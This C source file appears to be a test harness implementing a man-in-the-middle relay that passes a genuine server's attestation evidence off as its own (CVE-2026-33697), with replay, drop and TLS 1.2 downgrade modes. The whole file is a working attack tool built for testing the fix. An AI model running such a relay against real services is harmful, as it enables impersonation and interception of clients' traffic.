/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * The man in the middle: holds a server's certificate and key, and relays the
 * genuine server's evidence to every client (CVE-2026-33697). Plain OpenSSL
 * that has never heard of attest: nothing here is shared with what it attacks.
 *
 * One client after another: when the Certificate message for the client is
 * built, the relay connects to the genuine server with the client's own
 * AttestationRequest, takes the evidence out of the Certificate message it gets
 * there and presents it as its own. If the client falls for it, application
 * data are passed to and fro.
 *
 * On stdout, a line each: "port N" once; for each client "asked N octets" and
 * "evidence N octets" as they pass, then "accepted" or "refused: ALERT".
 */
#include <errno.h>
#include <getopt.h>
#include <netdb.h>
#include <netinet/in.h>
#include <openssl/crypto.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

/* doc/PROTOCOL.md: AttestationRequest in ClientHello, Attestation in
 * Certificate. */
#define EXTENSION_TYPE 0xffa7u
#define EXTENSION_CONTEXTS (SSL_EXT_CLIENT_HELLO | SSL_EXT_TLS1_3_CERTIFICATE)
#define EXTENSION_MAX 65535u

/* No wait for a peer is without end: a test must end. */
#define SOCKET_TIMEOUT_S 10

struct mode {
    const char *name;
    const char *does;
    bool asks;        /* forwards the client's request to the genuine server */
    bool records;     /* writes the evidence into the file */
    bool replays;     /* presents the file instead of fresh evidence */
    unsigned entries; /* bit i: evidence goes to CertificateEntry i */
    int max_version;  /* towards the client; 0: no limit */
};

static const struct mode modes[] = {
    {"relay", "the genuine server's evidence as our own", .asks = true,
     .entries = 1},
    {"record", "relay, and keep the evidence in FILE", .asks = true,
     .records = true, .entries = 1},
    {"replay", "the evidence of FILE", .replays = true, .entries = 1},
    {"drop-request", "do not pass the request on", .entries = 0},
    {"drop-evidence", "pass the request on, drop the evidence", .asks = true},
    {"later", "evidence in the second CertificateEntry only", .asks = true,
     .entries = 2},
    {"twice", "evidence in the first two CertificateEntries", .asks = true,
     .entries = 3},
    {"tls12", "TLS 1.2 towards the client", .max_version = TLS1_2_VERSION},
};

#define MODE_COUNT (sizeof(modes) / sizeof(modes[0]))

struct octets {
    size_t len;
    unsigned char data[EXTENSION_MAX];
};

struct relay {
    const struct mode *mode;
    const char *file;
    const char *host; /* the genuine server */
    const char *port;
    SSL_CTX *front; /* towards clients */
    SSL_CTX *back;  /* towards the genuine server */
};

/* One client. */
struct session {
    const struct relay *relay;
    SSL *front;
    SSL *back; /* NULL until needed */
    bool asked;
    struct octets request;
    struct octets evidence;
};

static void say_openssl_error(const char *what)
{
    fprintf(stderr, "relay: %s\n", what);
    ERR_print_errors_fp(stderr);
}

static bool keep(struct octets *octets, const unsigned char *in, size_t len)
{
    if (len > sizeof(octets->data))
        return false;
    if (len > 0)
        memcpy(octets->data, in, len);
    octets->len = len;
    return true;
}

/*
 * Files
 */

static bool read_evidence(const char *path, struct octets *ret_evidence)
{
    FILE *in = fopen(path, "rb");
    bool ok;

    if (in == NULL) {
        perror(path);
        return false;
    }
    ret_evidence->len =
        fread(ret_evidence->data, 1, sizeof(ret_evidence->data), in);
    ok = !ferror(in);
    fclose(in);
    return ok;
}

static bool write_evidence(const char *path, const struct octets *evidence)
{
    FILE *out = fopen(path, "wb");
    bool ok;

    if (out == NULL) {
        perror(path);
        return false;
    }
    ok = fwrite(evidence->data, 1, evidence->len, out) == evidence->len;
    return fclose(out) == 0 && ok;
}

/*
 * Sockets
 */

static void set_timeouts(int fd)
{
    const struct timeval timeout = {.tv_sec = SOCKET_TIMEOUT_S};

    (void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof(timeout));
    (void)setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &timeout, sizeof(timeout));
}

static int connect_to(const char *host, const char *port)
{
    const struct addrinfo hints = {.ai_socktype = SOCK_STREAM};
    struct addrinfo *found = NULL;
    int fd = -1;

    if (getaddrinfo(host, port, &hints, &found) != 0)
        return -1;
    for (const struct addrinfo *a = found; a != NULL && fd < 0;
         a = a->ai_next) {
        fd = socket(a->ai_family, a->ai_socktype | SOCK_CLOEXEC, 0);
        if (fd >= 0 && connect(fd, a->ai_addr, a->ai_addrlen) != 0) {
            close(fd);
            fd = -1;
        }
    }
    freeaddrinfo(found);
    if (fd >= 0)
        set_timeouts(fd);
    return fd;
}

/* Listen on the loopback address alone; port 0: any, which is printed. */
static int listen_on(unsigned short port)
{
    struct sockaddr_in address = {.sin_family = AF_INET,
                                  .sin_port = htons(port),
                                  .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t len = sizeof(address);
    const int on = 1;
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

    if (fd < 0)
        return -1;
    (void)setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
    if (bind(fd, (struct sockaddr *)&address, len) != 0 || listen(fd, 16) != 0
        || getsockname(fd, (struct sockaddr *)&address, &len) != 0) {
        close(fd);
        return -1;
    }
    printf("port %u\n", (unsigned)ntohs(address.sin_port));
    return fd;
}

/*
 * The side of the genuine server
 */

/* Custom extension callbacks; see SSL_CTX_add_custom_ext(3). */
static int back_add(SSL *ssl, unsigned type, unsigned context,
                    const unsigned char **ret_out, size_t *ret_len, X509 *cert,
                    size_t index, int *ret_alert, void *arg)
{
    const struct session *session = SSL_get_app_data(ssl);

    (void)type, (void)cert, (void)index, (void)ret_alert, (void)arg;
    if (context != SSL_EXT_CLIENT_HELLO || !session->asked
        || !session->relay->mode->asks)
        return 0;
    *ret_out = session->request.data;
    *ret_len = session->request.len;
    return 1;
}

static int back_parse(SSL *ssl, unsigned type, unsigned context,
                      const unsigned char *in, size_t len, X509 *cert,
                      size_t index, int *ret_alert, void *arg)
{
    struct session *session = SSL_get_app_data(ssl);

    (void)type, (void)context, (void)cert, (void)ret_alert, (void)arg;
    if (index != 0)
        return 1;
    printf("evidence %zu octets\n", len);
    return keep(&session->evidence, in, len);
}

/* Connect to the genuine server under the name the client asked for. Its
 * certificate is of no interest: we hold the key of one like it. */
static bool open_back(struct session *session)
{
    const struct relay *relay = session->relay;
    const char *name =
        SSL_get_servername(session->front, TLSEXT_NAMETYPE_host_name);
    char sni[TLSEXT_MAXLEN_host_name + 1] = "";
    int fd = connect_to(relay->host, relay->port);

    if (name != NULL)
        snprintf(sni, sizeof(sni), "%s", name);
    if (fd < 0) {
        fprintf(stderr, "relay: no connection to %s:%s\n", relay->host,
                relay->port);
        return false;
    }
    session->back = SSL_new(relay->back);
    if (session->back == NULL || SSL_set_app_data(session->back, session) != 1
        || SSL_set_fd(session->back, fd) != 1
        || (sni[0] != '\0' && SSL_set_tlsext_host_name(session->back, sni) != 1)
        || SSL_connect(session->back) != 1) {
        say_openssl_error("no TLS with the genuine server");
        return false;
    }
    return true;
}

/*
 * The side of the client
 */

static int front_parse(SSL *ssl, unsigned type, unsigned context,
                       const unsigned char *in, size_t len, X509 *cert,
                       size_t index, int *ret_alert, void *arg)
{
    struct session *session = SSL_get_app_data(ssl);

    (void)type, (void)cert, (void)index, (void)ret_alert, (void)arg;
    if (context != SSL_EXT_CLIENT_HELLO)
        return 1;
    printf("asked %zu octets\n", len);
    session->asked = true;
    return keep(&session->request, in, len);
}

/* Get what the mode presents. Called once, for the first CertificateEntry. */
static bool get_evidence(struct session *session)
{
    const struct relay *relay = session->relay;

    if (relay->mode->replays)
        return read_evidence(relay->file, &session->evidence);
    if (!open_back(session))
        return false;
    return !relay->mode->records
           || write_evidence(relay->file, &session->evidence);
}

static int front_add(SSL *ssl, unsigned type, unsigned context,
                     const unsigned char **ret_out, size_t *ret_len, X509 *cert,
                     size_t index, int *ret_alert, void *arg)
{
    struct session *session = SSL_get_app_data(ssl);

    (void)type, (void)cert, (void)arg;
    if (context != SSL_EXT_TLS1_3_CERTIFICATE)
        return 0;
    if (index == 0 && !get_evidence(session)) {
        *ret_alert = SSL_AD_INTERNAL_ERROR;
        return -1;
    }
    if (session->evidence.len == 0 || index > 31
        || (session->relay->mode->entries >> index & 1) == 0)
        return 0;
    *ret_out = session->evidence.data;
    *ret_len = session->evidence.len;
    return 1;
}

/*
 * Application data
 */

/* Pass on what one side has to say. Returns false at its end. */
static bool pass(SSL *from, SSL *to)
{
    char buffer[16384];

    do {
        int len = SSL_read(from, buffer, sizeof(buffer));

        /* A record that was no application data: a session ticket. */
        if (len <= 0)
            return SSL_get_error(from, len) == SSL_ERROR_WANT_READ;
        if (SSL_write(to, buffer, len) <= 0)
            return false;
    } while (SSL_pending(from) > 0);
    return true;
}

static void pipe_data(SSL *front, SSL *back)
{
    struct pollfd fds[] = {{.fd = SSL_get_fd(front), .events = POLLIN},
                           {.fd = SSL_get_fd(back), .events = POLLIN}};
    bool open = true;

    while (open && poll(fds, 2, SOCKET_TIMEOUT_S * 1000) > 0) {
        if (fds[0].revents != 0)
            open = pass(front, back);
        if (open && fds[1].revents != 0)
            open = pass(back, front);
    }
    SSL_shutdown(front);
    SSL_shutdown(back);
}

static void free_ssl(SSL *ssl)
{
    if (ssl == NULL)
        return;
    if (SSL_get_fd(ssl) >= 0)
        close(SSL_get_fd(ssl));
    SSL_free(ssl);
}

static void serve(const struct relay *relay, int fd)
{
    struct session *session = calloc(1, sizeof(*session));

    set_timeouts(fd);
    if (session == NULL || (session->front = SSL_new(relay->front)) == NULL
        || SSL_set_app_data(session->front, session) != 1
        || SSL_set_fd(session->front, fd) != 1) {
        say_openssl_error("out of memory");
        exit(EXIT_FAILURE);
    }
    session->relay = relay;
    if (SSL_accept(session->front) == 1) {
        puts("accepted");
        /* Nobody asked for evidence, or it came out of the file. */
        if (session->back != NULL || open_back(session))
            pipe_data(session->front, session->back);
    } else {
        const char *why = ERR_reason_error_string(ERR_peek_last_error());

        printf("refused: %s\n", why != NULL ? why : "connection closed");
    }
    ERR_clear_error();
    free_ssl(session->back);
    free_ssl(session->front);
    free(session);
}

/*
 * Start
 */

static bool make_contexts(struct relay *relay, const char *cert,
                          const char *key)
{
    relay->front = SSL_CTX_new(TLS_server_method());
    relay->back = SSL_CTX_new(TLS_client_method());
    if (relay->front == NULL || relay->back == NULL)
        return false;
    /* A poll() loop must not sit in a read behind a session ticket. */
    SSL_CTX_clear_mode(relay->front, SSL_MODE_AUTO_RETRY);
    SSL_CTX_clear_mode(relay->back, SSL_MODE_AUTO_RETRY);
    return SSL_CTX_use_certificate_chain_file(relay->front, cert) == 1
           && SSL_CTX_use_PrivateKey_file(relay->front, key, SSL_FILETYPE_PEM)
                  == 1
           && SSL_CTX_set_max_proto_version(relay->front,
                                            relay->mode->max_version)
                  == 1
           && SSL_CTX_add_custom_ext(relay->front, EXTENSION_TYPE,
                                     EXTENSION_CONTEXTS, front_add, NULL, NULL,
                                     front_parse, NULL)
                  == 1
           && SSL_CTX_add_custom_ext(relay->back, EXTENSION_TYPE,
                                     EXTENSION_CONTEXTS, back_add, NULL, NULL,
                                     back_parse, NULL)
                  == 1;
}

static void usage(FILE *out)
{
    fputs(
        "Usage: relay --connect HOST:PORT --cert PEM --key PEM [--mode MODE]\n"
        "             [--file FILE] [--listen PORT] [--count N]\n"
        "  --connect  the genuine server\n"
        "  --cert     our certificate, and the chain after it\n"
        "  --listen   on 127.0.0.1; default 0, any free port\n"
        "  --count    end after N clients; default: never\n"
        "Modes, what the client is shown:\n",
        out);
    for (size_t i = 0; i < MODE_COUNT; i++)
        fprintf(out, "  %-13s  %s\n", modes[i].name, modes[i].does);
}

__attribute__((noreturn)) static void bad_usage(const char *what)
{
    fprintf(stderr, "relay: %s\n", what);
    usage(stderr);
    exit(2);
}

static const struct mode *find_mode(const char *name)
{
    for (size_t i = 0; i < MODE_COUNT; i++)
        if (strcmp(modes[i].name, name) == 0)
            return &modes[i];
    bad_usage("no such mode");
}

static unsigned number(const char *text, unsigned max)
{
    char *end = NULL;
    unsigned long value;

    errno = 0;
    value = strtoul(text, &end, 10);
    if (errno != 0 || end == text || *end != '\0' || value > max)
        bad_usage("not a number, or too large");
    return (unsigned)value;
}

/* HOST:PORT, taken apart in place; the host may stand in brackets. */
static void split_address(char *text, struct relay *relay)
{
    char *colon = strrchr(text, ':');

    if (colon == NULL || colon == text)
        bad_usage("--connect needs HOST:PORT");
    *colon = '\0';
    relay->port = colon + 1;
    relay->host = text;
    if (text[0] == '[' && colon[-1] == ']') {
        colon[-1] = '\0';
        relay->host = text + 1;
    }
}

struct options {
    const char *cert;
    const char *key;
    unsigned short port;
    unsigned count; /* 0: no end */
};

static void read_options(int argc, char **argv, struct relay *relay,
                         struct options *options)
{
    static const struct option known[] = {
        {"connect", required_argument, NULL, 'c'},
        {"cert", required_argument, NULL, 'C'},
        {"key", required_argument, NULL, 'k'},
        {"mode", required_argument, NULL, 'm'},
        {"file", required_argument, NULL, 'f'},
        {"listen", required_argument, NULL, 'l'},
        {"count", required_argument, NULL, 'n'},
        {"help", no_argument, NULL, 'h'},
        {NULL, 0, NULL, 0},
    };
    int opt;

    while ((opt = getopt_long(argc, argv, "", known, NULL)) != -1) {
        switch (opt) {
        case 'c':
            split_address(optarg, relay);
            break;
        case 'C':
            options->cert = optarg;
            break;
        case 'k':
            options->key = optarg;
            break;
        case 'm':
            relay->mode = find_mode(optarg);
            break;
        case 'f':
            relay->file = optarg;
            break;
        case 'l':
            options->port = (unsigned short)number(optarg, 65535);
            break;
        case 'n':
            options->count = number(optarg, 1000000);
            break;
        case 'h':
            usage(stdout);
            exit(EXIT_SUCCESS);
        default:
            bad_usage("wrong usage");
        }
    }
    if (optind < argc || relay->host == NULL || options->cert == NULL
        || options->key == NULL)
        bad_usage("--connect, --cert and --key are needed, and no operands");
    if (relay->file == NULL && (relay->mode->records || relay->mode->replays))
        bad_usage("this mode needs --file");
}

int main(int argc, char **argv)
{
    struct relay relay = {.mode = &modes[0]};
    struct options options = {0};
    int listener;

    /* No openssl.cnf: whatever it activates for others is not for us. */
    OPENSSL_init_ssl(OPENSSL_INIT_NO_LOAD_CONFIG, NULL);
    signal(SIGPIPE, SIG_IGN);
    setvbuf(stdout, NULL, _IOLBF, 0);
    read_options(argc, argv, &relay, &options);
    if (!make_contexts(&relay, options.cert, options.key)) {
        say_openssl_error("certificate, key or context");
        return EXIT_FAILURE;
    }
    listener = listen_on(options.port);
    if (listener < 0) {
        perror("relay: listen");
        return EXIT_FAILURE;
    }
    for (unsigned served = 0; options.count == 0 || served < options.count;
         served++) {
        int fd = accept(listener, NULL, NULL);

        if (fd < 0) {
            perror("relay: accept");
            return EXIT_FAILURE;
        }
        serve(&relay, fd);
    }
    close(listener);
    SSL_CTX_free(relay.front);
    SSL_CTX_free(relay.back);
    return EXIT_SUCCESS;
}
